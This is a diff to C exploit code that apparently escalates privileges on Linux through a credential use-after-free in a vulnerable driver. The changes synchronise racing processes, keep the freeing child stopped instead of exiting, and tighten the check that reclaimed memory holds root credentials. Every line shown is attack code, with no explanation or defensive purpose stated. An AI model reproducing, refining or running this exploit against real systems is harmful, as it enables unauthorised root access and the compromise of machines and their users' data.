@@ -22,6 +22,7 @@
 
 /* Shared by all candidates. */
 struct prize {
+	int ready;
 	bool claimed, won;
 };
 
@@ -43,9 +44,11 @@ static pid_t fork_or_die(void)
 
 /*
  * Have a process with other credentials close the last file that has these. A
- * pipe to tell it when would be another such file.
+ * pipe to tell it when would be another such file. It stops when it is done, and
+ * stays: its credentials are beside those that are free now, whose memory would
+ * be given back if nothing else were there.
  */
-static void drop_a_reference(u64 usage)
+static void drop_a_reference(u64 usage, volatile struct prize *prize)
 {
 	int file = open("/proc/self/stat", O_RDONLY), status, received;
 	sigset_t go;
@@ -58,13 +61,19 @@ static void drop_a_reference(u64 usage)
 	sigprocmask(SIG_BLOCK, &go, NULL);
 	pid = fork_or_die();
 	if (!pid) {
+		close(FD_LOOT);
 		sigwait(&go, &received);
 		close(file);
-		_exit(0);
+		for (;;)
+			raise(SIGSTOP);
 	}
 	close(file);
+	/* A process that is forked from now on could get what another frees. */
+	__atomic_add_fetch(&prize->ready, 1, __ATOMIC_SEQ_CST);
+	while (prize->ready < CANDIDATES)
+		nap(1);
 	vuln_write(usage, 1);
-	if (kill(pid, SIGUSR1) || waitpid(pid, &status, 0) != pid)
+	if (kill(pid, SIGUSR1) || waitpid(pid, &status, WUNTRACED) != pid)
 		die_errno("dropping a reference");
 	if (WIFSIGNALED(status))
 		exit(EXIT_OUT_OF_REACH);
@@ -72,7 +81,8 @@ static void drop_a_reference(u64 usage)
 
 /*
  * Is it that of a program that is set-user-ID root? The driver tells: system
- * calls follow pointers, and there may be none.
+ * calls follow pointers, and there may be none. While such a program calls
+ * access(), as libc does when it starts, it has others, which open no file.
  */
 static bool is_root(u64 uid)
 {
@@ -80,7 +90,8 @@ static bool is_root(u64 uid)
 	const u64 root = (u64)ATTACKER_UID << 32;
 
 	return vuln_read(uid) == user && vuln_read(uid + sizeof(u64)) == root &&
-	       vuln_read(uid + 2 * sizeof(u64)) == root;
+	       vuln_read(uid + 2 * sizeof(u64)) == root &&
+	       vuln_read(uid + 3 * sizeof(u64)) == root;
 }
 
 /* A process must not end whose credentials are free memory, or another's. */
@@ -97,7 +108,7 @@ static noreturn void be_a_candidate(const char *path, volatile struct prize *pri
 	int i;
 
 	setsid();
-	drop_a_reference(mine.usage);
+	drop_a_reference(mine.usage, prize);
 	for (i = 0; i < ROUNDS * 15; i++, nap(20)) {
 		if (!is_root(mine.uid))
 			continue;
